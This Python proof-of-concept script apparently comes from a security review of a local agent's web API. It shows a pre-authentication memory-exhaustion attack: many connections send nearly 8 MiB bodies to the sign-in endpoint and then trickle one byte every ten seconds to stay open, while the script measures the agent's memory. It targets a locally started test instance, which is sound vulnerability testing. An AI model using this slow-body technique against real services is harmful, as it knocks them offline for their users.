# G4: with no credential at all, POST /api/session (the sign-in, open by design) has its body collected up to the
# 8 MiB limit before anything is checked. N connections that each send 8 MiB minus one byte and then keep
# trickling nothing more than one byte every 10 s (see G3) hold N x 8 MiB (and more) in the agent for as long as
# they like. Over HTTPS beyond loopback (MODE=https: api.listen [::ffff:127.0.0.1]:18042 with a password, which the
# agent treats as "beyond loopback") any machine on the network can do this before any password is asked.
# Usage: python3 g4_presession_bodies.py N HOLD_SECONDS [http|https]
import socket, ssl, sys, time, threading
import hg

n = int(sys.argv[1]) if len(sys.argv) > 1 else 40
hold = int(sys.argv[2]) if len(sys.argv) > 2 else 45
mode = sys.argv[3] if len(sys.argv) > 3 else "http"
if mode == "https":
    h = hg.make_home("g4s", 18043, "[::ffff:127.0.0.1]:18044")
    hg.run("gui", "--set-password", home=h, input="correct horse 1\n")
else:
    h = hg.make_home("g4", 18041, "127.0.0.1:18042")
agent = hg.start_agent(h)
socks = []
try:
    a = hg.api_addr(h)
    host, port = a.rsplit(":", 1)
    host = host.strip("[]")
    scheme = "https" if mode == "https" else "http"
    limit = 8 << 20
    head = (f"POST /api/session HTTP/1.1\r\nHost: {a}\r\nOrigin: {scheme}://{a}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {limit}\r\n\r\n").encode()
    body = b'{"code":"' + b"A" * (limit - 100)  # 91 bytes short of the declared length: one a tick keeps it going
    print("agent before:", hg.res(agent.pid))
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE

    def one():
        s = socket.create_connection((host, int(port)), timeout=60)
        if mode == "https":
            s = ctx.wrap_socket(s)
        s.sendall(head + body)
        socks.append(s)

    threads = [threading.Thread(target=one) for _ in range(n)]
    t0 = time.time()
    for t in threads: t.start()
    for t in threads: t.join()
    print(f"{len(socks)} connections sent {len(body)} body bytes each in {time.time()-t0:.1f}s; agent:", hg.res(agent.pid))
    start = time.time()
    while time.time() - start < hold:
        time.sleep(10)
        for s in socks:
            try: s.send(b"A")   # one more byte keeps the connection out of the idle timeout
            except OSError: pass
        print(f"t={time.time()-start:4.0f}s agent:", hg.res(agent.pid))
    try:
        st, _, d = hg.req(a, "GET", "/app.js", tls=(mode == "https"), timeout=10)
        print("the page still answers:", st)
    except Exception as e:
        print("the page:", type(e).__name__, e)
finally:
    for s in socks: s.close()
    time.sleep(2)
    print("after closing them:", hg.res(agent.pid))
    hg.stop_agent(agent)
